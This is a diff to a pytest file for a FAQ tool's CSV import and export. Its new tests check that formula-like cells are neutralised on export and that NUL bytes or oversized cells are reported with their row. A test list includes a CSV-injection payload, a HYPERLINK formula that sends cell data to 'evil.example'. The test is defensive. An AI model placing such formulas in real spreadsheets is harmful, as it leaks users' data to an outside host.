@@ -78,7 +78,7 @@ def test_import_shows_the_changes_then_writes_a_file_that_round_trips_byte_for_b
 
     assert main(["faq", "import", str(sheet), "--dry-run"]) == 0
     shown = capsys.readouterr().out
-    assert f"add     kayak" in shown and f"change  {first.id} (answer)" in shown and f"remove  {second.id}" in shown
+    assert "add     kayak" in shown and f"change  {first.id} (answer)" in shown and f"remove  {second.id}" in shown
     assert load(data_dir / "faq.yml") == before  # a dry run writes nothing
 
     assert main(["faq", "import", str(sheet), "--yes"]) == 0
@@ -119,3 +119,35 @@ def test_a_sheet_saved_in_another_encoding_gets_a_clear_message(data_dir, tmp_pa
     sheet.write_bytes("id,questions_en\r\nwater,自来水能直接喝吗？\r\n".encode("gbk"))
     with pytest.raises(ContentError, match="CSV UTF-8"):
         read_csv(sheet, {})
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+def test_cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_read_back(data_dir, tmp_path):
+    faq = load(data_dir / "faq.yml")
+    entry = faq.entries[0]
+    poisoned = faq.__class__(**{**faq.__dict__, "entries": tuple(
+        e.__class__(**{**e.__dict__, "answer": {"en": FORMULAS[i % 4], "zh": e.answer["zh"]}})
+        if e is entry or i < 4 else e for i, e in enumerate(faq.entries))})
+    sheet = tmp_path / "faq.csv"
+    sheet.write_text(to_csv(poisoned), encoding="utf-8-sig")
+    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert read_csv(sheet, faq.replies) == poisoned
+
+
+@pytest.mark.parametrize("damage", ["nul", "huge"])
+def test_a_nul_byte_or_a_huge_cell_is_reported_with_its_row(data_dir, tmp_path, damage):
+    sheet = tmp_path / "faq.csv"
+    main(["faq", "export", str(sheet)])
+    with sheet.open(encoding="utf-8-sig", newline="") as file:
+        lines = file.read().split("\r\n")
+    bad = "\x00" if damage == "nul" else "x" * (csv.field_size_limit() + 1)
+    lines[1] = lines[1].replace(",", f",{bad}", 1) if damage == "nul" else lines[1] + f',"{bad}"'
+    sheet.write_text("\r\n".join(lines), encoding="utf-8-sig", newline="")
+    with pytest.raises(ContentError) as caught:
+        read_csv(sheet, load(data_dir / "faq.yml").replies)
+    (problem,) = caught.value.problems
+    assert problem.line is not None and problem.line >= 2 and "cannot be read as CSV" in problem.message
